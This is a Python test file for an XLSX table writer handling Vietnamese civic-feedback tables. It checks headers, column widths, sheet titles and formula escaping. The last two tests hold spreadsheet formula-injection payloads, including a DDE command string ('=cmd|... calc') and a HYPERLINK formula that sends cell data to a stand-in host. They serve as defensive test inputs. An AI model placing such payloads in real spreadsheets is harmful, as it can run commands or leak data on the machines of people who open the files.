"""Tables written to XLSX: one sheet each, bold frozen header, fitted widths, text kept as text."""

import io

from openpyxl import Workbook, load_workbook

from documents.xlsx import save_workbook, sheet_title, write_table


def reopen(workbook: Workbook):
    return load_workbook(io.BytesIO(save_workbook(workbook)))


def test_one_sheet_per_table_with_vietnamese_headers_and_rows():
    workbook = Workbook()
    write_table(workbook, "Luồng ý kiến theo lĩnh vực", ["STT", "Lĩnh vực", "Số đơn vị"],
                [[1, "Môi trường", 12], [2, "Y tế", 3]])
    write_table(workbook, "Tình hình nộp báo cáo", ["Kỳ", "Tỷ lệ nộp"], [["Tháng 11/2025", "90%"]])
    opened = reopen(workbook)
    # The empty default sheet is used for the first table, not left behind.
    assert opened.sheetnames == ["Luồng ý kiến theo lĩnh vực", "Tình hình nộp báo cáo"]
    sheet = opened["Luồng ý kiến theo lĩnh vực"]
    assert [c.value for c in sheet[1]] == ["STT", "Lĩnh vực", "Số đơn vị"]
    assert [c.value for c in sheet[2]] == [1, "Môi trường", 12]
    assert sheet.max_row == 3


def test_header_bold_frozen_and_filterable_columns_fitted():
    workbook = Workbook()
    long_text = "Nhân dân đề nghị sớm nạo vét cống thoát nước khu chợ"
    write_table(workbook, "Kiến nghị", ["STT", "Nội dung"], [[1, long_text], [2, "ngắn"]])
    sheet = reopen(workbook)["Kiến nghị"]
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["B2"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width
    assert sheet.column_dimensions["B"].width >= len(long_text)


def test_writes_on_a_given_sheet_and_keeps_titles_valid_and_unique():
    workbook = Workbook()
    sheet = workbook.active
    write_table(sheet, "Bảng: 1/2 [đơn vị]", ["A"], [])
    write_table(workbook, "Bảng: 1/2 [đơn vị]", ["A"], [])
    assert workbook.sheetnames == ["Bảng  1 2  đơn vị", "Bảng  1 2  đơn vị (2)"]
    assert len(sheet_title("x" * 50)) == 31


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    workbook = Workbook()
    write_table(workbook, "Ý kiến", ["Nội dung"], [["=HYPERLINK(\"http://x\")"], ["-5 hộ dân"]])
    path = tmp_path / "y-kien.xlsx"
    save_workbook(workbook, path)
    sheet = load_workbook(path)["Ý kiến"]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "=HYPERLINK(\"http://x\")"
    assert sheet["A3"].value == "-5 hộ dân"


def test_formula_like_header_and_every_trigger_stay_text_numbers_stay_numbers():
    workbook = Workbook()
    texts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "=HYPERLINK(\"http://x\"&A1,\"bấm\")"]
    write_table(workbook, "Ý kiến", ["=cmd|' /C calc'!A0", "Số"],
                [[text, -1.5] for text in texts])
    sheet = reopen(workbook)["Ý kiến"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=cmd|' /C calc'!A0"
    for row, text in enumerate(texts, start=2):
        assert sheet.cell(row=row, column=1).data_type == "s"
        assert sheet.cell(row=row, column=1).value == text
        assert sheet.cell(row=row, column=2).value == -1.5
        assert sheet.cell(row=row, column=2).data_type == "n"
